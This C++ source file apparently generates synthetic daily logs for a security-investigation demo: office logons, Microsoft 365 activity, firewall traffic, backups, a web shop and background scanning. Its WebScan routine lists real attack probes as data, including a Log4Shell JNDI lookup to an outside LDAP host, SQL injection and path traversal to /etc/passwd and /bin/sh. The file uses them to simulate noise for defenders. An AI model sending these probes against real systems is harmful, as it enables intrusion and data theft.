#include "app/demo_routine.h"

#include <algorithm>
#include <string>

#include "app/demo_firm.h"

namespace redthread {
namespace {

// Everything that one day needs, so that its parts read like sentences.
class OrdinaryDay {
 public:
  OrdinaryDay(int day, DemoRandom* random, DemoWriter* writer) : day_(day), r_(*random), w_(*writer) {}

  void Tell() {
    for (int person = 0; person < kDemoPeople; ++person) {
      if (AtWork(person, day_)) OfficeDay(person);
      PhoneAndHome(person);
    }
    Servers();
    Backups();
    WebShop();
    Scanners();
    LinuxServer();
    FirewallNoise();
  }

 private:
  // A moment of the day, from the minute `from` on, up to `to`; minutes since local midnight. With a fraction
  // of a second.
  Timestamp Moment(int from, int to) {
    const int second = r_.Between(from * 60, to * 60 - 1);
    return DemoTime(day_, 0, 0, second) + std::chrono::milliseconds(r_.Below(1000));
  }
  static Timestamp After(Timestamp t, int milliseconds) {
    return t + std::chrono::milliseconds(milliseconds);
  }

  // ---- people ----
  void OfficeDay(int person);
  void ArriveAtWork(int person, Timestamp time);
  void WorkAtPc(int person, Timestamp time);
  void UseFileServer(int person, Timestamp time);
  void UseMicrosoft365(int person, Timestamp time);
  void BrowseTheWeb(int person, Timestamp time);
  void SignInTo365(int person, Timestamp time, std::string_view address, std::string_view client);
  void PhoneAndHome(int person);
  // ---- machines ----
  void Servers();
  void Backups();
  void LinuxServer();
  void ShopMonitor();
  void AdminOnLinux();
  void FirewallNoise();
  // ---- the shop and its visitors ----
  void WebShop();
  void Visit(Timestamp time);
  void Request(Timestamp time, WebRequest request);
  void Scanners();
  void WebScan(Timestamp time);
  void SshScan(Timestamp time);

  void FirewallTraffic(Timestamp time, std::string_view from, std::string_view to, int port, bool allowed,
                       int64_t sent, int64_t received);
  std::string ScannerAddress() { return "203.0.113." + std::to_string(r_.Between(3, 120)); }

  const int day_;
  DemoRandom& r_;
  DemoWriter& w_;
};

constexpr const char* kBrowsers[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 Version/18.0 Mobile/15E148 "
    "Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Mobile "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 "
    "Safari/605.1.15"};
constexpr const char* kPrograms[] = {"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                                     "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                                     "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                                     "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
                                     "C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe",
                                     "C:\\Windows\\System32\\notepad.exe",
                                     "C:\\Windows\\System32\\svchost.exe",
                                     "C:\\Windows\\System32\\SearchProtocolHost.exe"};
constexpr const char* kDocuments[] = {"Invoices\\2026-10.xlsx",
                                      "Price list.xlsx",
                                      "Delivery notes\\October.docx",
                                      "Minutes.docx",
                                      "Stock.xlsx",
                                      "Orders\\Open orders.xlsx",
                                      "Brochure.pdf",
                                      "Contracts\\Rental agreement.pdf",
                                      "Planning 2027.xlsx",
                                      "Photos\\Garden chairs.jpg"};

// ---- people ----

void OrdinaryDay::OfficeDay(int person) {
  const int arrives = 7 * 60 + 30 + r_.Between(0, 95);
  const int lunch = 12 * 60 + r_.Between(-15, 35);
  const int lunch_ends = lunch + r_.Between(28, 50);
  const int leaves = 16 * 60 + 25 + r_.Between(0, 110);
  ArriveAtWork(person, Moment(arrives, arrives + 1));
  for (int i = r_.Between(130, 190); i > 0; --i) {
    const Timestamp time = r_.Below(100) < 45 ? Moment(arrives + 2, lunch) : Moment(lunch_ends, leaves);
    switch (r_.Below(10)) {
      case 0:
      case 1:
        WorkAtPc(person, time);
        break;
      case 2:
      case 3:
        UseFileServer(person, time);
        break;
      case 4:
      case 5:
        UseMicrosoft365(person, time);
        break;
      default:
        BrowseTheWeb(person, time);
    }
  }
  const std::string pc = PcName(person);
  const char* login = kPeople[static_cast<size_t>(person)].login;
  const Timestamp lock = Moment(lunch, lunch + 1);
  w_.Add(DemoSource::kWorkstations, lock,
         SecurityEvent(pc, lock, 4800, "The workstation was locked.", login));
  const Timestamp leave = Moment(leaves, leaves + 1);
  w_.Add(DemoSource::kWorkstations, leave, SecurityEvent(pc, leave, 4647, "User initiated logoff.", login));
}

void OrdinaryDay::ArriveAtWork(int person, Timestamp time) {
  const std::string pc = PcName(person), address = PcAddress(person);
  const char* login = kPeople[static_cast<size_t>(person)].login;
  if (r_.OneIn(9)) {  // the first try of the morning goes wrong
    w_.Add(DemoSource::kWorkstations, time, LogonEvent(pc, time, login, 2, "127.0.0.1", false));
    const Timestamp failed = After(time, 40);
    JsonLine line = SecurityEvent("DC01", failed, 4771, "Kerberos pre-authentication failed.", "DC01$");
    line.Text("TargetUserName", login).Text("Status", "0x18").Text("IpAddress", "::ffff:" + address);
    w_.Add(DemoSource::kDomainController, failed, line);
    time = After(time, r_.Between(4000, 15000));
  }
  JsonLine ticket =
      SecurityEvent("DC01", time, 4768, "A Kerberos authentication ticket (TGT) was requested.", "DC01$");
  ticket.Text("TargetUserName", login).Text("Status", "0x0").Text("TicketEncryptionType", "0x12");
  ticket.Text("IpAddress", "::ffff:" + address);
  w_.Add(DemoSource::kDomainController, time, ticket);
  time = After(time, 120);
  w_.Add(DemoSource::kWorkstations, time, LogonEvent(pc, time, login, 2, "127.0.0.1"));
  time = After(time, 2500);
  w_.Add(DemoSource::kFileServer, time, LogonEvent("FS01", time, login, 3, address));
  SignInTo365(person, After(time, 9000), kOfficeAddress, "Mobile Apps and Desktop clients");
}

void OrdinaryDay::WorkAtPc(int person, Timestamp time) {
  const std::string pc = PcName(person);
  const char* login = kPeople[static_cast<size_t>(person)].login;
  w_.Add(DemoSource::kWorkstations, time, ProcessEvent(pc, time, login, r_.Pick(kPrograms), ""));
  if (r_.OneIn(3)) {
    const Timestamp ticket_time = After(time, 300);
    JsonLine ticket =
        SecurityEvent("DC01", ticket_time, 4769, "A Kerberos service ticket was requested.", "DC01$");
    ticket.Text("TargetUserName", std::string(login) + "@CORP.EXAMPLE.COM").Text("ServiceName", "FS01$");
    ticket.Text("TicketEncryptionType", "0x12")
        .Text("IpAddress", "::ffff:" + PcAddress(person))
        .Text("Status", "0x0");
    w_.Add(DemoSource::kDomainController, ticket_time, ticket);
  }
}

void OrdinaryDay::UseFileServer(int person, Timestamp time) {
  const DemoPerson& who = kPeople[static_cast<size_t>(person)];
  const std::string folder = r_.OneIn(4) ? "General" : who.department;
  JsonLine line = SecurityEvent(
      "FS01", time, 5145,
      "A network share object was checked to see whether client can be granted desired access.", who.login);
  line.Text("ObjectType", "File").Text("IpAddress", PcAddress(person)).Text("ShareName", "\\\\*\\Data");
  line.Text("ShareLocalPath", "\\??\\D:\\Data")
      .Text("RelativeTargetName", folder + "\\" + r_.Pick(kDocuments));
  line.Text("AccessMask", r_.OneIn(5) ? "0x2" : "0x1");
  w_.Add(DemoSource::kFileServer, time, line);
}

void OrdinaryDay::UseMicrosoft365(int person, Timestamp time) {
  static constexpr const char* kOperations[] = {"MailItemsAccessed", "MailItemsAccessed", "Send",
                                                "FileAccessed",      "FileModified",      "FilePreviewed"};
  const char* operation = r_.Pick(kOperations);
  const bool mail = operation[0] == 'M' || operation[0] == 'S';
  JsonLine line =
      AuditEvent(time, mail ? "Exchange" : "SharePoint", operation, MailOf(person), kOfficeAddress, &r_);
  if (mail) {
    line.Text("MailboxOwnerUPN", MailOf(person)).Text("ClientInfoString", "Client=MSExchangeRPC");
  } else {
    line.Text("SiteUrl", "https://example.sharepoint.com/sites/team/")
        .Text("SourceFileName", r_.Pick(kDocuments));
  }
  w_.Add(DemoSource::kMicrosoft365Audit, time, line);
  if (r_.OneIn(6)) SignInTo365(person, After(time, 800), kOfficeAddress, "Browser");
}

void OrdinaryDay::BrowseTheWeb(int person, Timestamp time) {
  const std::string to = "198.51.100." + std::to_string(r_.Between(130, 250));
  const int sent = r_.Between(900, 60000);
  FirewallTraffic(time, PcAddress(person), to, 443, true, sent, r_.Between(4000, 2500000));
}

void OrdinaryDay::SignInTo365(int person, Timestamp time, std::string_view address, std::string_view client) {
  SignIn sign_in{MailOf(person), address, "DE", client, "Office 365 Exchange Online"};
  if (r_.OneIn(14)) {  // mistyped, and right a moment later
    sign_in.result = 50126;
    w_.Add(DemoSource::kMicrosoft365SignIns, time, SignInEvent(time, sign_in, &r_));
    sign_in.result = 0;
    time = After(time, r_.Between(6000, 25000));
  }
  w_.Add(DemoSource::kMicrosoft365SignIns, time, SignInEvent(time, sign_in, &r_));
}

void OrdinaryDay::PhoneAndHome(int person) {
  if (person == kNewcomer && day_ < 19) return;
  if (person == kTraveller && day_ >= 12 && day_ <= 23) return;
  const std::string phone = "198.51.100." + std::to_string(32 + person);
  for (int i = r_.Between(1, 4); i > 0; --i) {
    SignInTo365(person, Moment(7 * 60, 22 * 60), phone, "Mobile Apps and Desktop clients");
  }
  // A few work from home in the evening, through the VPN.
  if (!AtWork(person, day_) || !r_.OneIn(14)) return;
  const Timestamp up = Moment(18 * 60, 20 * 60);
  const std::string home = "198.51.100." + std::to_string(60 + person);
  JsonLine line = FirewallEvent(up, "0101039424", "event", "vpn", "information");
  line.Text("logdesc", "SSL VPN tunnel up").Text("action", "tunnel-up").Text("tunneltype", "ssl-tunnel");
  line.Text("remip", home).Text("tunnelip", "10.20.90." + std::to_string(20 + person));
  line.Text("user", kPeople[static_cast<size_t>(person)].login).Text("group", "vpn-users");
  w_.Add(DemoSource::kFirewall, up, line);
  for (int i = r_.Between(4, 20); i > 0; --i) UseFileServer(person, After(up, r_.Between(20, 5000) * 1000));
}

// ---- machines ----

void OrdinaryDay::Servers() {
  const int computers = IsWorkday(day_) ? 420 : 160;
  for (int i = 0; i < computers; ++i) {  // machine accounts come and go on the domain controller
    const Timestamp time = Moment(0, 24 * 60);
    const int pc = r_.Between(0, kDemoPeople - 1);
    JsonLine logon = LogonEvent("DC01", time, PcName(pc) + "$", 3, PcAddress(pc));
    w_.Add(DemoSource::kDomainController, time, logon);
    const Timestamp off = After(time, r_.Between(200, 60000));
    JsonLine line = SecurityEvent("DC01", off, 4634, "An account was logged off.", "DC01$");
    line.Text("TargetUserName", PcName(pc) + "$").Text("LogonType", "3");
    w_.Add(DemoSource::kDomainController, off, line);
  }
  for (int i = 0; i < 60; ++i) {
    const Timestamp time = Moment(0, 24 * 60);
    w_.Add(DemoSource::kFileServer, time,
           ProcessEvent("FS01", time, "FS01$", "C:\\Windows\\System32\\svchost.exe",
                        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p"));
  }
  for (int pc = 0; pc < kDemoPeople; ++pc) {
    if (!AtWork(pc, day_)) continue;
    const Timestamp updated = Moment(8 * 60, 10 * 60), scanned = Moment(12 * 60, 13 * 60);
    w_.Add(DemoSource::kWorkstations, updated,
           DefenderEvent(PcName(pc), updated, 2000,
                         "Microsoft Defender Antivirus security intelligence version updated."));
    w_.Add(DemoSource::kWorkstations, scanned,
           DefenderEvent(PcName(pc), scanned, 1001, "Microsoft Defender Antivirus scan has finished."));
  }
}

void OrdinaryDay::Backups() {
  constexpr const char* kBackup = "Microsoft-Windows-Backup";
  const Timestamp start = DemoTime(day_, 22, 0, 3),
                  end = start + std::chrono::seconds(r_.Between(2400, 4100));
  w_.Add(DemoSource::kFileServer, start,
         WindowsEvent("FS01", start, 1, kBackup, kBackup, "The backup operation has started."));
  // The disk was not changed on the 21st; after the intrusion there is no catalogue to add to until Monday.
  const bool succeeds = day_ != 21 && day_ != 17 && day_ != 18;
  JsonLine line =
      succeeds
          ? WindowsEvent("FS01", end, 4, kBackup, kBackup, "The backup operation has finished successfully.")
          : WindowsEvent("FS01", After(start, 94000), 5, kBackup, kBackup,
                         "The backup operation has failed with following error code 0x80780166.");
  w_.Add(DemoSource::kFileServer, succeeds ? end : After(start, 94000), line);
  const Timestamp linux_start = DemoTime(day_, 2, 30, 1);
  w_.Add(DemoSource::kWebServer, linux_start,
         LinuxEvent(linux_start, "systemd", 1, "Starting shop-backup.service - Backup of the shop..."));
  const Timestamp linux_end = linux_start + std::chrono::seconds(r_.Between(300, 700));
  w_.Add(DemoSource::kWebServer, linux_end,
         LinuxEvent(linux_end, "systemd", 1, "Finished shop-backup.service - Backup of the shop."));
}

void OrdinaryDay::LinuxServer() {
  for (int minute = 0; minute < 24 * 60; minute += 5) {
    const Timestamp time = DemoTime(day_, 0, minute, 1);
    w_.Add(DemoSource::kWebServer, time,
           LinuxEvent(time, "CRON", r_.Between(2000, 60000),
                      minute % 60 == 15 ? "(root) CMD (cd / && run-parts --report /etc/cron.hourly)"
                                        : "(www-data) CMD (php /srv/shop/bin/worker.php --once)"));
  }
  ShopMonitor();
  if (IsWorkday(day_) && r_.OneIn(3)) AdminOnLinux();
}

void OrdinaryDay::ShopMonitor() {
  for (int minute = 0; minute < 24 * 60; minute += 15) {
    const Timestamp time = DemoTime(day_, 0, minute, 30);
    const bool down = time >= ShopDownFrom() && time < ShopDownUntil();
    // The old logs that nobody deletes: a little every day, and an import on the 27th that takes the rest.
    int used = day_ > 27 ? 31 + day_ : 61 + day_;
    if (day_ == 27 && minute >= 10 * 60) used = std::min(100, 88 + (minute - 10 * 60) / 15);
    if (time >= ShopDownUntil()) used = 58;
    w_.Add(DemoSource::kWebServer, time,
           LinuxEvent(time, "shop-monitor", 811,
                      "disk usage of / is " + std::to_string(used) + " %, " +
                          (down ? "shop answered 503"
                                : "shop answered 200 in " + std::to_string(r_.Between(90, 320)) + " ms")));
  }
}

void OrdinaryDay::AdminOnLinux() {
  const Timestamp time = Moment(9 * 60, 16 * 60);
  const int pid = r_.Between(2000, 60000);
  w_.Add(
      DemoSource::kWebServer, time,
      LinuxEvent(time, "sshd", pid,
                 "Accepted publickey for vogt from 10.20.1.12 port 50122 ssh2: ED25519 SHA256:Zr3bM1vVxq0"));
  const Timestamp sudo = After(time, 21000);
  w_.Add(DemoSource::kWebServer, sudo,
         LinuxEvent(sudo, "sudo", pid + 3,
                    "vogt : TTY=pts/0 ; PWD=/home/vogt ; USER=root ; COMMAND=/usr/bin/apt upgrade"));
}

void OrdinaryDay::FirewallTraffic(Timestamp time, std::string_view from, std::string_view to, int port,
                                  bool allowed, int64_t sent, int64_t received) {
  JsonLine line = FirewallEvent(time, "0000000013", "traffic", "forward", "notice");
  line.Text("srcip", from)
      .Number("srcport", r_.Between(1024, 65535))
      .Text("dstip", to)
      .Number("dstport", port);
  line.Number("policyid", allowed ? 4 : 0).Number("proto", 6).Text("action", allowed ? "accept" : "deny");
  line.Text("service", port == 443 ? "HTTPS" : "tcp/" + std::to_string(port));
  line.Number("sentbyte", sent).Number("rcvdbyte", received);
  w_.Add(DemoSource::kFirewall, time, line);
}

void OrdinaryDay::FirewallNoise() {
  static constexpr int kPorts[] = {22, 23, 25, 80, 445, 1433, 3306, 3389, 5060, 5900, 8080, 8443};
  for (int i = r_.Between(1500, 1900); i > 0; --i) {  // the internet knocks
    const Timestamp time = Moment(0, 24 * 60);
    const std::string from = ScannerAddress();
    FirewallTraffic(time, from, kOfficeAddress, r_.Pick(kPorts), false, 0, 0);
  }
  for (int i = r_.Between(500, 700); i > 0; --i) {  // servers fetch updates and send telemetry
    const Timestamp time = Moment(0, 24 * 60);
    const char* from = r_.OneIn(2) ? "10.20.0.11" : "10.20.0.10";
    const std::string to = "198.51.100." + std::to_string(r_.Between(130, 250));
    const int sent = r_.Between(500, 9000);
    FirewallTraffic(time, from, to, 443, true, sent, r_.Between(2000, 90000));
  }
  if (!r_.OneIn(6)) return;
  const Timestamp time = Moment(9 * 60, 16 * 60);  // the administrator looks at the firewall, from his desk
  JsonLine line = FirewallEvent(time, "0100032001", "event", "system", "information");
  line.Text("logdesc", "Admin login successful").Text("user", "vogt").Text("ui", "https(10.20.1.12)");
  line.Text("method", "https").Text("srcip", "10.20.1.12").Text("dstip", "10.20.0.1");
  line.Text("action", "login").Text("status", "success");
  w_.Add(DemoSource::kFirewall, time, line);
}

// ---- the shop and its visitors ----

void OrdinaryDay::WebShop() {
  // How many of a hundred visits come in each hour.
  static constexpr int kShare[24] = {1, 1, 0, 0, 0, 1, 2, 3, 4, 5, 6, 6, 6, 5, 5, 5, 5, 6, 7, 9, 9, 7, 4, 3};
  const int visits = IsWorkday(day_) ? r_.Between(560, 680) : r_.Between(720, 860);
  for (int hour = 0; hour < 24; ++hour) {
    for (int i = visits * kShare[hour] / 100; i > 0; --i) Visit(Moment(hour * 60, hour * 60 + 60));
  }
  for (int i = r_.Between(380, 460); i > 0; --i) {  // a search engine
    const std::string client = "198.51.100." + std::to_string(r_.Between(130, 134));
    const std::string stem = "/product/" + std::to_string(r_.Between(1000, 1899));
    const Timestamp time = Moment(0, 24 * 60);
    Request(time,
            {client, "GET", stem, "", "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example.org/)",
             200, r_.Between(9000, 41000)});
  }
}

void OrdinaryDay::Visit(Timestamp time) {
  char client[48];
  if (r_.OneIn(3)) {
    const uint32_t network = r_.Next();
    std::snprintf(client, sizeof client, "2001:db8:%x:%x::%x", network >> 16, network & 0xffff,
                  r_.Below(65535) + 1);
  } else {
    std::snprintf(client, sizeof client, "192.0.2.%d", r_.Between(1, 254));
  }
  const char* browser = r_.Pick(kBrowsers);
  Request(time, {client, "GET", "/", "", browser, 200, r_.Between(18000, 24000)});
  const int pages = r_.Between(2, 8);
  for (int i = 0; i < pages; ++i) {
    time = After(time, r_.Between(3000, 60000));
    const std::string product = std::to_string(r_.Between(1000, 1899));
    switch (r_.Below(6)) {
      case 0:
        Request(time, {client, "GET", "/search", "q=garden+chair&page=" + std::to_string(r_.Between(1, 5)),
                       browser, 200, r_.Between(8000, 30000)});
        break;
      case 1:
        Request(time, {client, "GET", "/img/" + product + ".webp", "", browser, r_.OneIn(40) ? 404 : 200,
                       r_.Between(9000, 140000)});
        break;
      case 2:
        Request(time, {client, "POST", "/basket", "", browser, 302, 312});
        break;
      default:
        Request(time, {client, "GET", "/product/" + product, "", browser, r_.OneIn(9000) ? 500 : 200,
                       r_.Between(9000, 41000)});
    }
  }
  if (r_.OneIn(22)) Request(After(time, 40000), {client, "POST", "/checkout", "", browser, 200, 5120});
}

void OrdinaryDay::Request(Timestamp time, WebRequest request) {
  // Pictures come from the disk; every page needs the database.
  const bool page = request.stem.rfind("/img/", 0) != 0;
  if (page && request.status < 400 && time >= ShopDownFrom() && time < ShopDownUntil()) {
    request.status = 503;
    request.bytes = 299;
  }
  w_.Add(DemoSource::kWebAccess, time, WebEvent(time, request));
}

void OrdinaryDay::Scanners() {
  for (int i = r_.Between(3, 7); i > 0; --i) WebScan(Moment(0, 23 * 60));
  for (int i = r_.Between(4, 9); i > 0; --i) SshScan(Moment(0, 23 * 60));
  for (int i = r_.Between(4, 12); i > 0; --i) {  // a stray guess at the mailboxes
    SignIn guess{r_.OneIn(2) ? "info@example.com" : "s.brandt@example.com",
                 "",
                 "US",
                 "Authenticated SMTP",
                 "Office 365 Exchange Online",
                 50126,
                 false};
    const std::string address = ScannerAddress();
    guess.address = address;
    const Timestamp time = Moment(0, 24 * 60);
    w_.Add(DemoSource::kMicrosoft365SignIns, time, SignInEvent(time, guess, &r_));
  }
}

void OrdinaryDay::WebScan(Timestamp time) {
  struct Probe {
    const char* stem;
    const char* query;
    int status;
  };
  static constexpr Probe kProbes[] = {{"/.env", "", 404},
                                      {"/.git/config", "", 403},
                                      {"/wp-login.php", "", 404},
                                      {"/xmlrpc.php", "", 404},
                                      {"/phpmyadmin/index.php", "", 404},
                                      {"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", 404},
                                      {"/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "", 400},
                                      {"/product/1007", "id=7+union+select+1,2,3--", 403},
                                      {"/search", "q=..%2f..%2f..%2fetc/passwd", 403},
                                      {"/", "x=${jndi:ldap://203.0.113.5/a}", 403},
                                      {"/boaform/admin/formLogin", "", 404},
                                      {"/actuator/health", "", 404}};
  const std::string address = ScannerAddress();
  for (int i = r_.Between(4, 26); i > 0; --i) {
    const Probe& probe = r_.Pick(kProbes);
    Request(time, {address, "GET", probe.stem, probe.query, "Mozilla/5.0 zgrab/0.x", probe.status, 196});
    time = After(time, r_.Between(150, 2500));
  }
}

void OrdinaryDay::SshScan(Timestamp time) {
  static constexpr const char* kNames[] = {"admin", "test",     "ubuntu", "oracle",
                                           "git",   "postgres", "deploy", "pi"};
  const std::string address = ScannerAddress();
  const int pid = r_.Between(2000, 60000);
  for (int i = r_.Between(3, 18); i > 0; --i) {
    const char* name = r_.Pick(kNames);
    const std::string from =
        std::string(" from ") + address + " port " + std::to_string(r_.Between(1024, 65535));
    w_.Add(DemoSource::kWebServer, time,
           LinuxEvent(time, "sshd", pid, std::string("Invalid user ") + name + from));
    time = After(time, r_.Between(300, 4000));
    w_.Add(DemoSource::kWebServer, time,
           LinuxEvent(time, "sshd", pid,
                      std::string("Failed password for invalid user ") + name + from + " ssh2"));
    time = After(time, r_.Between(300, 9000));
  }
  if (!r_.OneIn(3)) return;
  w_.Add(DemoSource::kWebServer, time,
         LinuxEvent(time, "sshd", pid,
                    "error: maximum authentication attempts exceeded for root from " + address + " port " +
                        std::to_string(r_.Between(1024, 65535)) + " ssh2 [preauth]"));
}

}  // namespace

void TellOrdinaryDay(int day, DemoRandom* random, DemoWriter* writer) {
  OrdinaryDay(day, random, writer).Tell();
}

}  // namespace redthread
